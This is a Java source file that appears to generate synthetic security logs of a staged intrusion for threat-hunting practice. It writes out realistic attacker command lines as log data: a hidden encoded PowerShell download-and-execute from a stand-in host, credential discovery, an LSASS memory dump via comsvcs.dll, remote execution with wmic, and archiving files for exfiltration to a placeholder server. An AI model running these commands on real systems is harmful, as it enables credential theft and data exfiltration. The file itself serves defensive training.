package vedette.examples;

import java.time.Duration;
import java.time.Instant;
import java.util.List;
import java.util.random.RandomGenerator.SplittableGenerator;
import vedette.examples.CloudNoise.Place;
import vedette.examples.CloudNoise.SignIn;
import vedette.examples.Company.Host;
import vedette.examples.Company.Person;
import vedette.examples.LogonNoise.Attempt;
import vedette.examples.NetworkNoise.Opened;
import vedette.examples.ProcessLog.Account;
import vedette.examples.ProcessLog.Started;

/**
 * The intrusion that hides in the logs, in the order in which it happens. {@code examples/README.md} tells it in prose.
 */
final class Intrusion implements Runnable {

    static final String SPRAY_IP = "203.0.113.77";
    static final String BEACON_IP = "198.51.100.23";
    static final String BEACON_URL = "cdn-sync.example";

    private static final String SYSTEM32 = "C:\\Windows\\System32\\";
    private static final String POWERSHELL = SYSTEM32 + "WindowsPowerShell\\v1.0\\powershell.exe";
    private static final int TUESDAY = 1;
    private static final int WEDNESDAY = 2;
    private static final int THURSDAY = 3;
    private static final Duration BEACON_PERIOD = Duration.ofMinutes(5);

    private final Company company;
    private final LogTables tables;
    private final ProcessLog processes;
    private final SplittableGenerator random;
    private final Person victim;
    private final Host fileServer;

    Intrusion(Company company, LogTables tables, ProcessLog processes, SplittableGenerator random) {
        this.company = company;
        this.tables = tables;
        this.processes = processes;
        this.random = random;
        this.victim = company.owner("FIN-07");
        this.fileServer = company.server("FS-01");
    }

    @Override
    public void run() {
        passwordSpray(at(TUESDAY, 2, 10));
        mailbox(at(TUESDAY, 4, 38));
        Started implant = lure(at(WEDNESDAY, 9, 12));
        discovery(at(WEDNESDAY, 9, 21), implant);
        beaconing(at(WEDNESDAY, 9, 13), at(THURSDAY, 23, 58));
        lateralMovement(at(THURSDAY, 13, 40), implant);
        exfiltration(at(THURSDAY, 23, 8), implant);
    }

    private Instant at(int day, int hour, int minute) {
        return company.midnight(day).plus(Duration.ofMinutes(hour * 60L + minute));
    }

    /** One guess for each account, slowly enough that no account locks; the last one is right. */
    private void passwordSpray(Instant start) {
        Instant time = start;
        for (int round = 0; round < 2; round++) {
            for (Person person : company.people()) {
                time = time.plusMillis(45_000 + random.nextInt(40_000));
                signIn(time, person, random.nextInt(30) == 0 ? "50053" : "50126");
            }
        }
        signIn(at(TUESDAY, 4, 31).plusMillis(17_420), victim, "0");
    }

    private void signIn(Instant time, Person person, String resultType) {
        CloudNoise.signIn(
                tables,
                new SignIn(
                        time,
                        person,
                        "Office 365 Exchange Online",
                        SPRAY_IP,
                        Place.ABROAD,
                        "python-requests/2.32",
                        resultType));
    }

    private void mailbox(Instant start) {
        for (int i = 0; i < 40; i++) {
            CloudNoise.mailbox(
                    tables, start.plusSeconds(20L * i + random.nextInt(15)), victim, SPRAY_IP, "MailItemsAccessed");
        }
        CloudNoise.mailbox(tables, start.plusSeconds(930), victim, SPRAY_IP, "New-InboxRule")
                .set(
                        "Parameters",
                        "[{\"Name\":\"Name\",\"Value\":\".\"},{\"Name\":\"SubjectContainsWords\","
                                + "\"Value\":\"invoice;payment;bank\"},{\"Name\":\"DeleteMessage\",\"Value\":\"True\"}]");
        for (int i = 0; i < 12; i++) {
            CloudNoise.file(
                    tables,
                    start.plusSeconds(1000 + 17L * i),
                    victim,
                    SPRAY_IP,
                    "FileDownloaded",
                    i % 2 == 0 ? "Supplier accounts.xlsx" : "Contracts.docx");
        }
    }

    /** The intruder answers a mail thread of the victim's with a workbook that she opens. */
    private Started lure(Instant time) {
        Account account = Account.of(victim, 207);
        String office = "C:\\Program Files\\Microsoft Office\\root\\Office16\\";
        Started explorer = processes.alreadyRunning(
                victim.workstation(), "C:\\Windows\\explorer.exe", 3120, at(WEDNESDAY, 7, 41), account);
        Started outlook = processes.start(
                time.minusSeconds(5300),
                explorer,
                account,
                office + "OUTLOOK.EXE",
                ProcessNoise.quoted(office + "OUTLOOK.EXE") + " /recycle");
        Started excel = processes.start(
                time,
                outlook,
                account,
                office + "EXCEL.EXE",
                ProcessNoise.quoted(office + "EXCEL.EXE") + " \"C:\\Users\\" + account.name()
                        + "\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\7QK2\\Payment"
                        + " advice.xlsm\"");
        Started cmd = processes.start(
                time.plusSeconds(11),
                excel,
                account,
                SYSTEM32 + "cmd.exe",
                "cmd.exe /c powershell -nop -w hidden -enc " + download());
        Started implant = processes.start(
                time.plusSeconds(12), cmd, account, POWERSHELL, "powershell -nop -w hidden -enc " + download());
        ServerNoise.alert(
                tables,
                time.plusSeconds(12),
                new String[] {"Suspicious PowerShell command line", "Medium", "Execution", "T1059.001"},
                "FIN-07",
                "[{\"$id\":\"1\",\"HostName\":\"FIN-07\",\"Type\":\"host\"},{\"$id\":\"2\",\"Name\":\""
                        + victim.account()
                        + "\",\"Type\":\"account\"},{\"$id\":\"3\",\"ProcessId\":\"0x%x\",\"CommandLine\":\"powershell -nop -w hidden -enc\",\"Type\":\"process\"}]"
                                .formatted(implant.pid()));
        return implant;
    }

    private static String download() {
        return ProcessNoise.encoded("IEX (New-Object Net.WebClient).DownloadString('https://" + BEACON_URL + "/u')");
    }

    private void discovery(Instant start, Started implant) {
        List<String> commands = List.of(
                "whoami /all",
                "systeminfo",
                "ipconfig /all",
                "arp -a",
                "net group \"Domain Admins\" /domain",
                "nltest /dclist:" + Company.DOMAIN,
                "net view \\\\FS-01 /all",
                "tasklist /v",
                "reg query \"HKCU\\Software\\SimonTatham\\PuTTY\\Sessions\" /s",
                "cmdkey /list");
        Instant time = start;
        for (String command : commands) {
            time = time.plusSeconds(14 + random.nextInt(60));
            run(time, implant, implant.account(), command);
        }
    }

    private Started run(Instant time, Started parent, Account account, String command) {
        String program = command.split(" ", 2)[0];
        return processes.start(time, parent, account, SYSTEM32 + program + ".exe", command);
    }

    /** Five minutes, give or take a tenth: too regular for a person. */
    private void beaconing(Instant start, Instant end) {
        for (Instant time = start; time.isBefore(end); time = time.plus(BEACON_PERIOD)) {
            long jitter = (long) (random.nextGaussian() * 6000);
            connect(time.plusMillis(jitter), 420 + random.nextInt(60));
        }
    }

    private void connect(Instant time, long bytesSent) {
        NetworkNoise.open(
                tables,
                new Opened(
                        time,
                        victim.workstation(),
                        victim.account(),
                        "powershell.exe",
                        "powershell -nop -w hidden -enc " + download(),
                        BEACON_IP,
                        443,
                        BEACON_URL,
                        bytesSent));
    }

    private void lateralMovement(Instant start, Started implant) {
        run(start, implant, implant.account(), "net use \\\\FS-01\\C$ /user:" + Company.DOMAIN + "\\svc-backup *");
        logon(start.plusSeconds(2), "svc-backup", false);
        logon(start.plusSeconds(31), "svc-backup", true);
        Started wmic = run(
                start.plusSeconds(95),
                implant,
                implant.account(),
                "wmic /node:FS-01 process call create \"cmd.exe /c C:\\Windows\\Temp\\upd.exe\"");
        logon(wmic.time().plusMillis(800), "svc-backup", true);
        Account backup = Account.service("svc-backup");
        Started provider = processes.alreadyRunning(
                fileServer, SYSTEM32 + "wbem\\WmiPrvSE.exe", 2212, company.midnight(0), Account.SYSTEM);
        Started cmd = processes.start(
                wmic.time().plusSeconds(1),
                provider,
                backup,
                SYSTEM32 + "cmd.exe",
                "cmd.exe /c C:\\Windows\\Temp\\upd.exe");
        Started update = processes.start(
                cmd.time().plusMillis(300), cmd, backup, "C:\\Windows\\Temp\\upd.exe", "C:\\Windows\\Temp\\upd.exe");
        run(update.time().plusSeconds(40), update, backup, "whoami /priv");
        run(
                update.time().plusSeconds(170),
                update,
                backup,
                "rundll32 C:\\Windows\\System32\\comsvcs.dll, MiniDump 656 C:\\Windows\\Temp\\l.dmp full");
        run(update.time().plusSeconds(260), update, backup, "net user /domain");
        ServerNoise.syslog(
                tables,
                start.plus(Duration.ofHours(8)),
                company.server("lnx-edi-01"),
                "authpriv",
                "info",
                "sshd",
                "Accepted password for svc-backup from " + victim.workstation().ip() + " port 51544 ssh2");
    }

    private void logon(Instant time, String account, boolean success) {
        LogonNoise.logon(
                tables,
                new Attempt(time, fileServer, account, 3, victim.workstation().ip(), success));
    }

    private void exfiltration(Instant start, Started implant) {
        Account account = implant.account();
        processes.start(
                start,
                implant,
                account,
                "C:\\Users\\Public\\rar.exe",
                "C:\\Users\\Public\\rar.exe a -hpK7 -v200m C:\\Users\\Public\\d.rar \\\\FS-01\\Finance\\*.xlsx");
        Started copy = processes.start(
                start.plusSeconds(840),
                implant,
                account,
                "C:\\Users\\Public\\svchost.exe",
                "C:\\Users\\Public\\svchost.exe copy C:\\Users\\Public\\d.rar remote:in --transfers 4");
        for (int i = 0; i < 26; i++) {
            NetworkNoise.open(
                    tables,
                    new Opened(
                            copy.time().plusSeconds(55L * i),
                            victim.workstation(),
                            victim.account(),
                            "svchost.exe",
                            copy.commandLine(),
                            BEACON_IP,
                            443,
                            "files." + BEACON_URL,
                            48_000_000 + random.nextLong(9_000_000)));
        }
        run(
                start.plusSeconds(2600),
                implant,
                account,
                "cmd /c del /q C:\\Users\\Public\\d*.rar C:\\Users\\Public\\rar.exe");
    }
}
